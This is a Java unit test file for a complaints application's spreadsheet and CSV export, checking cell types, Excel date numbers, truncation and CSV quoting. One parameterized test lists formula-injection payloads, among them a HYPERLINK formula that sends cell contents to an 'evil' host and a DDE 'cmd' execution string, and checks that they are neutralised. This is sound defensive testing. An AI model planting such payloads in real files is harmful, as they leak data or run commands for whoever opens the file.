package eu.reklamacje.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.ZipFile;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.jsoup.Jsoup;
import org.jsoup.parser.Parser;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FilesTest {

    @TempDir
    Path folder;

    @Test
    void serialNumbersStayTextsAndDaysAreDaysInAWorkbook() throws IOException {
        var sheet = sheet(table(List.of(
                "8939010102358478435",
                "000123",
                "=1+1",
                LocalDate.of(2026, 11, 30),
                LocalDateTime.of(2026, 11, 30, 12, 0),
                7)));
        var cells = Jsoup.parse(sheet, "", Parser.xmlParser()).select("row[r=2] c");
        assertThat(cells.get(0).attr("t")).isEqualTo("inlineStr");
        assertThat(cells.get(0).text()).isEqualTo("8939010102358478435");
        assertThat(cells.get(1).text()).isEqualTo("000123");
        assertThat(cells.get(2).attr("t")).isEqualTo("inlineStr");
        assertThat(sheet).doesNotContain("<f>");
        // As Excel counts days.
        assertThat(Double.parseDouble(cells.get(3).text())).isEqualTo(46356);
        assertThat(Double.parseDouble(cells.get(4).text())).isEqualTo(46356.5);
        assertThat(cells.get(5).text()).isEqualTo("7");
    }

    @Test
    void aTextThatNoCellHoldsIsCutBetweenTwoSigns() throws IOException {
        var cell = Jsoup.parse(sheet(table(List.of("x" + "😀".repeat(20_000)))), "", Parser.xmlParser())
                .select("row[r=2] c")
                .text();
        assertThat(cell.length()).isLessThan(32_767);
        assertThat(cell).startsWith("x😀").endsWith("😀…");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil/\"&A1,\"x\")",
                "=cmd|'/c calc'!A1",
                "@SUM(1+1)*cmd",
                "+1+1",
                "-2+3",
                "\t=1",
                "\r=1",
                "\n=1",
                "＝1+1"
            })
    void whatSomebodyWroteIsNoFormula(String hostile) throws IOException {
        assertThat(csv(table(List.of(hostile))).getLast()).containsExactly("'" + hostile);
    }

    @Test
    void aFieldIsReadAsItWasWritten() throws IOException {
        var text = "Dąb \"Sp. z o.o.\"; ul. 1,\nŁódź";
        assertThat(csv(table(Arrays.asList(text, null, 7, LocalDateTime.of(2026, 1, 2, 3, 4))))
                        .getLast())
                .containsExactly(text, "", "7", "2026-01-02 03:04");
        var bytes = written(table(List.of("a")), Format.CSV);
        assertThat(new String(bytes, StandardCharsets.UTF_8))
                .startsWith("\uFEFF\"A\"")
                .endsWith("\"a\"\r\n");
    }

    private static Table table(List<? extends @Nullable Object> row) {
        return new Table(
                "Reklamacje: [próba]/*?",
                List.of("A", "B"),
                List.of(List.of("Filtr", "q=x")),
                rows -> rows.accept(new ArrayList<>(row)));
    }

    private static byte[] written(Table table, Format format) throws IOException {
        var output = new ByteArrayOutputStream();
        int rows = format == Format.XLSX ? XlsxFile.write(table, output) : CsvFile.write(table, output);
        assertThat(rows).isEqualTo(1);
        return output.toByteArray();
    }

    private String sheet(Table table) throws IOException {
        var file = Files.write(folder.resolve("table.xlsx"), written(table, Format.XLSX));
        try (var zip = new ZipFile(file.toFile());
                var input = zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml"))) {
            return new String(input.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static List<List<String>> csv(Table table) throws IOException {
        var text = new String(written(table, Format.CSV), StandardCharsets.UTF_8).substring(1);
        try (var parser = CSVParser.parse(text, CSVFormat.RFC4180)) {
            return parser.stream().map(line -> line.stream().toList()).toList();
        }
    }
}
